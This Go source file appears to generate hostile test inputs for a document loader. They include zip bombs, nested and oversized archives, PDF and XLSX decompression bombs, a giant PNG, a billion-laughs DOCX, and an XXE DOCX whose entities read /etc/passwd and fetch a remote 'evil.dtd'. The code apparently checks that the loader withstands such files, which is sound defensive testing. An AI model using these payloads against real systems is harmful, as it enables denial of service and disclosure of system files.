package main

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/adler32"
	"hash/crc32"
	"io"
	"os"
	"path/filepath"
	"strings"
)

// A bomb is cheap to make: a chunk compressed once with a sync flush (a
// byte-aligned, non-final deflate block whose back-references stay inside
// the chunk) may be repeated any number of times and closed with an
// empty final block; the result inflates to the chunk repeated.
type repeated struct {
	chunk []byte // what one block inflates to
	block []byte // its deflate encoding
	n     int    // repetitions
}

func repeat(chunk []byte, n int) repeated {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	w.Write(chunk)
	w.Flush()
	return repeated{chunk: chunk, block: append([]byte(nil), b.Bytes()...), n: n}
}

// deflate is the raw deflate stream.
func (r repeated) deflate() []byte {
	out := bytes.Repeat(r.block, r.n)
	return append(out, 0x03, 0x00) // empty final block (fixed Huffman)
}

// zlib is the stream with zlib's header and Adler-32 trailer (PDF
// FlateDecode, PNG IDAT).
func (r repeated) zlib() []byte {
	a := adler32.New()
	for i := 0; i < r.n; i++ {
		a.Write(r.chunk)
	}
	out := append([]byte{0x78, 0xDA}, r.deflate()...)
	return binary.BigEndian.AppendUint32(out, a.Sum32())
}

func (r repeated) size() uint64 { return uint64(len(r.chunk)) * uint64(r.n) }

func (r repeated) crc() uint32 {
	var c uint32
	for i := 0; i < r.n; i++ {
		c = crc32.Update(c, crc32.IEEETable, r.chunk)
	}
	return c
}

// rawMember adds a member whose deflated bytes are given.
func rawMember(zw *zip.Writer, name string, r repeated) error {
	w, err := zw.CreateRaw(&zip.FileHeader{Name: name, Method: zip.Deflate, CRC32: r.crc(),
		CompressedSize64: uint64(len(r.deflate())), UncompressedSize64: r.size()})
	if err != nil {
		return err
	}
	_, err = w.Write(r.deflate())
	return err
}

func storedMember(zw *zip.Writer, name string, data []byte) error {
	w, err := zw.Create(name)
	if err != nil {
		return err
	}
	_, err = w.Write(data)
	return err
}

func writeZip(path string, fill func(zw *zip.Writer) error) error {
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	if err := fill(zw); err != nil {
		return err
	}
	if err := zw.Close(); err != nil {
		return err
	}
	return os.WriteFile(path, b.Bytes(), 0o644)
}

// zipBomb: members of 1 GiB of zeros each, declared honestly.
func zipBomb(path string, members int) error {
	r := repeat(make([]byte, 1<<20), 1<<10)
	return writeZip(path, func(zw *zip.Writer) error {
		for i := 0; i < members; i++ {
			if err := rawMember(zw, fmt.Sprintf("zeros-%02d.txt", i), r); err != nil {
				return err
			}
		}
		return nil
	})
}

// zipNested: a zip of zips, each inner one expanding past the archive
// limit (every inner zip lands as a child document and is judged alone).
func zipNested(path string, outer, inner int, memberMiB int) error {
	r := repeat(make([]byte, 1<<20), memberMiB)
	var in bytes.Buffer
	zw := zip.NewWriter(&in)
	for i := 0; i < inner; i++ {
		if err := rawMember(zw, fmt.Sprintf("zeros-%d.txt", i), r); err != nil {
			return err
		}
	}
	if err := zw.Close(); err != nil {
		return err
	}
	return writeZip(path, func(zw *zip.Writer) error {
		for i := 0; i < outer; i++ {
			if err := storedMember(zw, fmt.Sprintf("inner-%02d.zip", i), in.Bytes()); err != nil {
				return err
			}
		}
		return nil
	})
}

// zipMany: more members than loader.max_archive_members.
func zipMany(path string, n int) error {
	return writeZip(path, func(zw *zip.Writer) error {
		for i := 0; i < n; i++ {
			if err := storedMember(zw, fmt.Sprintf("m/%05d.txt", i), []byte("x\n")); err != nil {
				return err
			}
		}
		return nil
	})
}

// pdfFile writes a PDF from object bodies (object i+1 = objs[i]; object 1
// is the catalog) with a correct cross-reference table.
func pdfFile(path string, objs [][]byte) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	defer f.Close()
	w := &countWriter{w: f}
	fmt.Fprint(w, "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	offs := make([]int64, len(objs))
	for i, o := range objs {
		offs[i] = w.n
		fmt.Fprintf(w, "%d 0 obj\n", i+1)
		w.Write(o)
		fmt.Fprint(w, "\nendobj\n")
	}
	xref := w.n
	fmt.Fprintf(w, "xref\n0 %d\n0000000000 65535 f \n", len(objs)+1)
	for _, o := range offs {
		fmt.Fprintf(w, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(w, "trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n", len(objs)+1, xref)
	return w.err
}

type countWriter struct {
	w   io.Writer
	n   int64
	err error
}

func (c *countWriter) Write(b []byte) (int, error) {
	if c.err != nil {
		return 0, c.err
	}
	n, err := c.w.Write(b)
	c.n += int64(n)
	c.err = err
	return n, err
}

func stream(dict string, data []byte) []byte {
	return append(append([]byte(fmt.Sprintf("<< %s /Length %d >>\nstream\n", dict, len(data))), data...), []byte("\nendstream")...)
}

const font = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"

// contentBomb: one page whose content stream inflates to mib MiB of
// operators (text-showing ones when text, else path painting).
func contentBomb(path string, mib int, text bool) error {
	line := "0 0 m 612 792 l S\n"
	if text {
		line = "BT /F1 9 Tf 20 700 Td (All work and no play makes a dull page.) Tj ET\n"
	}
	chunk := []byte(strings.Repeat(line, (1<<20)/len(line)+1)[:1<<20])
	r := repeat(chunk, mib)
	return pdfFile(path, [][]byte{
		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
		[]byte("<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
		[]byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"),
		stream("/Filter /FlateDecode", r.zlib()),
		[]byte(font),
	})
}

// manyPages: n pages sharing one content stream.
func manyPages(path string, n int) error {
	objs := [][]byte{
		[]byte("<< /Type /Catalog /Pages 2 0 R >>"),
		nil, // pages, below
		stream("", []byte("BT /F1 12 Tf 72 700 Td (One of very many pages.) Tj ET")),
		[]byte(font),
	}
	var kids strings.Builder
	for i := 0; i < n; i++ {
		fmt.Fprintf(&kids, "%d 0 R ", len(objs)+1)
		objs = append(objs, []byte("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>"))
	}
	objs[1] = []byte(fmt.Sprintf("<< /Type /Pages /Kids [%s] /Count %d >>", kids.String(), n))
	return pdfFile(path, objs)
}

// hugePNG: a side x side 8-bit grey PNG (all white), a few hundred KB.
func hugePNG(path string, side int) error {
	row := make([]byte, side+1) // filter byte 0, then pixels
	for i := 1; i < len(row); i++ {
		row[i] = 0xFF
	}
	rows := 40
	for side%rows != 0 {
		rows--
	}
	r := repeat(bytes.Repeat(row, rows), side/rows)
	var b bytes.Buffer
	b.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(typ string, data []byte) {
		binary.Write(&b, binary.BigEndian, uint32(len(data)))
		c := crc32.NewIEEE()
		c.Write([]byte(typ))
		c.Write(data)
		b.WriteString(typ)
		b.Write(data)
		binary.Write(&b, binary.BigEndian, c.Sum32())
	}
	ihdr := binary.BigEndian.AppendUint32(nil, uint32(side))
	ihdr = binary.BigEndian.AppendUint32(ihdr, uint32(side))
	ihdr = append(ihdr, 8, 0, 0, 0, 0) // 8 bits, grey, deflate, filter 0, no interlace
	chunk("IHDR", ihdr)
	chunk("IDAT", r.zlib())
	chunk("IEND", nil)
	return os.WriteFile(path, b.Bytes(), 0o644)
}

// ooxml parts shared by the DOCX and XLSX below.
const contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
%s
</Types>`

func rels(typ, target string) string {
	return `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="` + typ + `" Target="` + target + `"/>
</Relationships>`
}

// docxWith: a DOCX whose document part is body.
func docxWith(path, body string) error {
	return writeZip(path, func(zw *zip.Writer) error {
		parts := [][2]string{
			{"[Content_Types].xml", fmt.Sprintf(contentTypes, `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>`)},
			{"_rels/.rels", rels("http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "word/document.xml")},
			{"word/document.xml", body},
		}
		for _, p := range parts {
			if err := storedMember(zw, p[0], []byte(p[1])); err != nil {
				return err
			}
		}
		return nil
	})
}

func billionLaughs(path string) error {
	var dtd strings.Builder
	dtd.WriteString(`<!ENTITY lol0 "lol">` + "\n")
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&dtd, `<!ENTITY lol%d "%s">`+"\n", i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	return docxWith(path, `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE w:document [
`+dtd.String()+`]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>Laughs: &lol9;</w:t></w:r></w:p>
<w:p><w:r><w:t>A paragraph after the laughs.</w:t></w:r></w:p>
</w:body></w:document>`)
}

// xxe: external entities naming local files; their contents must not land.
func xxe(path string) error {
	return docxWith(path, `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE w:document [
<!ENTITY passwd SYSTEM "file:///etc/passwd">
<!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">
%remote;
]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>
<w:p><w:r><w:t>Secret: &passwd;</w:t></w:r></w:p>
<w:p><w:r><w:t>An ordinary paragraph.</w:t></w:r></w:p>
</w:body></w:document>`)
}

// sheetBomb: an XLSX whose one sheet inflates to about mib MiB.
func sheetBomb(path string, mib int) error {
	var row strings.Builder
	row.WriteString("<row>")
	for c := 0; c < 20; c++ {
		row.WriteString(`<c t="inlineStr"><is><t>cell text in a bomb</t></is></c>`)
	}
	row.WriteString("</row>")
	rowsPerChunk := (1 << 20) / row.Len()
	chunk := []byte(strings.Repeat(row.String(), rowsPerChunk))
	r := repeat(chunk, mib)
	head := []byte(`<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`)
	tail := []byte(`</sheetData></worksheet>`)
	// The sheet part: head, the repeated rows, tail, as one deflate stream.
	var hb, tb bytes.Buffer
	hw, _ := flate.NewWriter(&hb, flate.BestCompression)
	hw.Write(head)
	hw.Flush()
	tw, _ := flate.NewWriter(&tb, flate.BestCompression)
	tw.Write(tail)
	tw.Close()
	body := append(append(append([]byte(nil), hb.Bytes()...), bytes.Repeat(r.block, r.n)...), tb.Bytes()...)
	crc := crc32.Update(0, crc32.IEEETable, head)
	for i := 0; i < r.n; i++ {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	crc = crc32.Update(crc, crc32.IEEETable, tail)
	size := uint64(len(head)) + r.size() + uint64(len(tail))
	return writeZip(path, func(zw *zip.Writer) error {
		parts := [][2]string{
			{"[Content_Types].xml", fmt.Sprintf(contentTypes, `<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`)},
			{"_rels/.rels", rels("http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument", "xl/workbook.xml")},
			{"xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Bomb" sheetId="1" r:id="rId1"/></sheets></workbook>`},
			{"xl/_rels/workbook.xml.rels", rels("http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet", "worksheets/sheet1.xml")},
		}
		for _, p := range parts {
			if err := storedMember(zw, p[0], []byte(p[1])); err != nil {
				return err
			}
		}
		w, err := zw.CreateRaw(&zip.FileHeader{Name: "xl/worksheets/sheet1.xml", Method: zip.Deflate, CRC32: crc,
			CompressedSize64: uint64(len(body)), UncompressedSize64: size})
		if err != nil {
			return err
		}
		_, err = w.Write(body)
		return err
	})
}

// oneLine: mib MiB of words and no line end.
func oneLine(path string, mib int) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	chunk := []byte(strings.Repeat("words without end ", (1<<20)/18+1)[:1<<20])
	for i := 0; i < mib; i++ {
		if _, err := f.Write(chunk); err != nil {
			f.Close()
			return err
		}
	}
	return f.Close()
}

// hostileFile is one generated file and what may become of it.
type hostileFile struct {
	name string
	make func(path string) error
	what string
}

func hostileFiles(textMiB, sheetMiB, bombMiB int) []hostileFile {
	return []hostileFile{
		{"zip-bomb.zip", func(p string) error { return zipBomb(p, 16) }, "16 members of 1 GiB of zeros (16 GiB expanded)"},
		{"zip-nested.zip", func(p string) error { return zipNested(p, 16, 4, 200) }, "16 zips of 4 x 200 MiB of zeros"},
		{"zip-many-members.zip", func(p string) error { return zipMany(p, 20000) }, "20,000 members"},
		{"content-bomb-text.pdf", func(p string) error { return contentBomb(p, bombMiB, true) }, fmt.Sprintf("one page, %d MiB of text operators", bombMiB)},
		{"content-bomb-paths.pdf", func(p string) error { return contentBomb(p, bombMiB, false) }, fmt.Sprintf("one page, %d MiB of path operators", bombMiB)},
		{"many-pages.pdf", func(p string) error { return manyPages(p, 100000) }, "100,000 pages"},
		{"huge-image.png", func(p string) error { return hugePNG(p, 30000) }, "30000 x 30000 pixels"},
		{"sheet-bomb.xlsx", func(p string) error { return sheetBomb(p, sheetMiB) }, fmt.Sprintf("one sheet of %d MiB of XML", sheetMiB)},
		{"billion-laughs.docx", billionLaughs, "nested entities, 10^9 'lol'"},
		{"xxe.docx", xxe, "external entities naming /etc/passwd and a URL"},
		{"one-line.txt", func(p string) error { return oneLine(p, textMiB) }, fmt.Sprintf("%d MiB, no line end", textMiB)},
	}
}

// generate writes the folder's files (skipping those already there).
func generate(dir string, files []hostileFile) error {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	for _, f := range files {
		p := filepath.Join(dir, f.name)
		if _, err := os.Stat(p); err == nil {
			continue
		}
		tmp := p + ".tmp"
		if err := f.make(tmp); err != nil {
			return fmt.Errorf("%s: %w", f.name, err)
		}
		if err := os.Rename(tmp, p); err != nil {
			return err
		}
	}
	return nil
}
